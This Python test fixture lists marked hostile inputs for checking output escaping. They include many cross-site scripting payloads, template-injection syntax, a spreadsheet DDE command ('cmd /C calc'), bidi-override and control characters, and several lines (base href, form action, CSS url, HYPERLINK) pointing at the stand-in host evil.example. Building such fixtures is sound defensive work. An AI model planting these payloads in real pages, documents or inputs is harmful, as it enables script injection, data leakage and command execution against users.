"""What do people put into a record to have it run, lead away, or turn round what stands beside it?

Each text carries the mark of its record, so that it is known again wherever it comes out.
"""

from __future__ import annotations

TEXTS = {
    "script": "<script>alert('{m}')</script>",
    "picture": "<img src=x onerror=alert('{m}')>",
    "drawing": "<svg onload=alert('{m}')>",
    "out of an attribute": "\"><script>alert('{m}')</script>",
    "into an attribute": "' onmouseover='alert(\"{m}\")' x='",
    "without quotes": "x onfocus=alert('{m}') autofocus tabindex=0",
    "out of the title": "</title><script>alert('{m}')</script>",
    "out of a field": "</textarea></select></option><img src=x onerror=alert('{m}')>",
    "out of a script": "</script><script>alert('{m}')</script>",
    "out of a comment": "--><img src=x onerror=alert('{m}')><!--",
    "frame": "<iframe srcdoc=\"<script>parent.alert('{m}')</script>\"></iframe>",
    "link": "<a href=\"javascript:alert('{m}')\">{m}</a>",
    "address": "javascript:alert('{m}')",
    "page as an address": "data:text/html,<script>alert('{m}')</script>",
    "details": "<details open ontoggle=alert('{m}')>",
    "body": "<body onload=alert('{m}')>",
    "sent on": "<meta http-equiv=refresh content=\"0;url=javascript:alert('{m}')\">",
    "another base": "<base href=//evil.example/>{m}",
    "a form": "<form action=//evil.example><button>{m}</button></form>",
    "style": "<style>*{{background:url(//evil.example/{m})}}</style>",
    "formulas": "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    "escaped once": "&lt;script&gt;alert('{m}')&lt;/script&gt;",
    "in an address": "%3Cscript%3Ealert('{m}')%3C/script%3E",
    "template": "{{{{ {m} }}}}{{% debug %}}{{% include 'x' %}}",
    "formula": '=HYPERLINK("http://evil.example","{m}")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0 {m}",
    "turned round": "{m}\u202etxet laer si siht\u202c",
    "isolated": "\u2067{m}\u2066 no end",
    "nothing": "a\u0000b\u0001{m}\u001b]0;x\u0007",
    "half a character": "{m}\ud800",
    "very long": "{m}" + "W" * 20_000,
    "many lines": "{m}" + "\r\n\u2028\u2029" * 500,
}


def hostile(name: str, mark: str) -> str:
    return TEXTS[name].format(m=mark)
